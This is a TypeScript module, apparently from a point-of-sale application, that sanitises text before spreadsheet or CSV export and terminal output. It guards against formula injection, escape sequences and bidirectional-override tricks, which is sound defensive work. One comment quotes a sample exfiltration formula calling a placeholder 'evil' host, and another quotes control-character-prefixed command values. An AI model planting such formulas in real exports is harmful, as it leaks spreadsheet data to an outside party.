/**
 * First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula (or a
 * DDE command): = + - @, and tab / CR / LF, which some of them skip before looking again.
 */
export const FORMULA_START = /^[=+\-@\t\r\n]/;

/**
 * Neutralises text from the server (item names, account info, receipt numbers...) before it goes
 * into an exported cell: a name such as `=HYPERLINK("http://evil/?"&A1)` must stay text when a
 * manager opens the export. The OWASP-recommended apostrophe prefix is used; spreadsheets show it
 * as text, and our importers take it off again (sheet-read.ts). Numbers we write ourselves are not
 * text and never pass through here, so a negative amount stays a number.
 */
export function safeCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/**
 * A Turkish Excel splits a CSV on ';', others on tab, and a quote inside a cell is only honoured at
 * the start of a field: whatever follows a separator inside a cell may become a cell of its own, so
 * it is kept from starting a formula the same way a cell's own start is (an apostrophe).
 */
export function guardSeparators(text: string): string {
  return text.replace(/[,;\t\r\n"](?=[=+\-@\t])/g, "$&'");
}

/** Undoes guardSeparators when our own export is read back. */
export function unguardSeparators(text: string): string {
  return text.replace(/([,;\t\r\n"])'(?=[=+\-@\t])/g, '$1');
}

/**
 * Terminal escape sequences as a whole (CSI such as `ESC[2J`, OSC such as a window title, and the
 * two-character ESC forms), in their 7-bit and 8-bit (C1) spellings: names typed by POS staff
 * reach terminals and spreadsheets, and removing only the ESC would leave "[2J" behind. An OSC
 * left open ends at the line's end: whatever follows on the next line stays (the CLI runs this over
 * whole outputs, where one unterminated title must not swallow the rest).
 */
const ESCAPE_SEQUENCE =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: matching control sequences is the point.
  /(?:\u001b\[|\u009b)[0-?]*[ -/]*[@-~]?|(?:\u001b\]|\u009d)[^\u0007\u001b\u009c\r\n]*(?:\u0007|\u001b\\|\u009c)?|\u001b[ -/]*[0-~]?/g;

/**
 * What cleanText drops one by one: C0 controls but tab, LF and CR; DEL and the C1 controls; the
 * bidirectional formatting characters; U+FFFE/U+FFFF and lone surrogates. The embeddings,
 * overrides and isolates (U+202A–U+202E, U+2066–U+2069) reorder everything up to the end of the
 * line or the cell, so "\u202eTAD" shows as "DAT" and a name can show a code or a price that is not
 * the one written; the marks (LRM, RLM, ALM) move the digits and spaces beside them. None is needed
 * to show a Turkish name, and the characters around them stay in their order.
 */
const UNWANTED =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: removing control characters is the point.
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufffe\uffff]|\p{Cs}/gu;

/**
 * Drops what a spreadsheet or a terminal should not get: escape sequences whole, then the UNWANTED
 * characters (XML 1.0 forbids the controls, Excel rejects a file containing them, a NUL makes a CSV
 * look binary, a terminal obeys them). Runs before safeCell, so "\u0001=cmd" or "\u202e=cmd" cannot
 * slip past it.
 */
export function cleanText(text: string): string {
  return text.replace(ESCAPE_SEQUENCE, '').replace(UNWANTED, '');
}
